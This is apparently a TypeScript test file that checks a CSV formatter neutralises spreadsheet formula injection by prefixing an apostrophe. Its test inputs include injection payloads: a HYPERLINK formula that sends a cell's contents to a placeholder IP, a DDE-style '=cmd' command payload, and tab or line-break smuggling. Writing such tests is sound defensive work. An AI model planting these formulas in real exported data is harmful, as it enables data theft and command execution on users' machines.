// Proves that a field of CSV output is one field, and is no formula in a spreadsheet.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { formatCsvField } from './csv-field.ts'

for (const text of [
  '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '=cmd|x!A0',
  '\uFF1D1+1',
  ' =1+1',
]) {
  test(`an apostrophe stands before ${text}`, () => {
    assert.deepEqual(parse(`${formatCsvField(text)}\n`), [[`'${text}`]])
  })
}

test('a tab or line end before a formula is escaped and hides nothing', () => {
  const field = formatCsvField('\t=1+1\r\n=2')
  assert.doesNotMatch(field, /[\t\r\n]|^[=+@-]/)
  assert.equal(parse(`${field}\n`)[0]?.length, 1)
})

for (const text of ['192.0.2.1', '2001:db8::1', 'a-b.example', 'a=b', 'say "x", twice', 'true']) {
  test(`${text} stays as it is`, () => {
    assert.deepEqual(parse(`${formatCsvField(text)},z\n`), [[text, 'z']])
  })
}

test('a negative number is a number', () => {
  assert.equal(formatCsvField(-5), '-5')
})
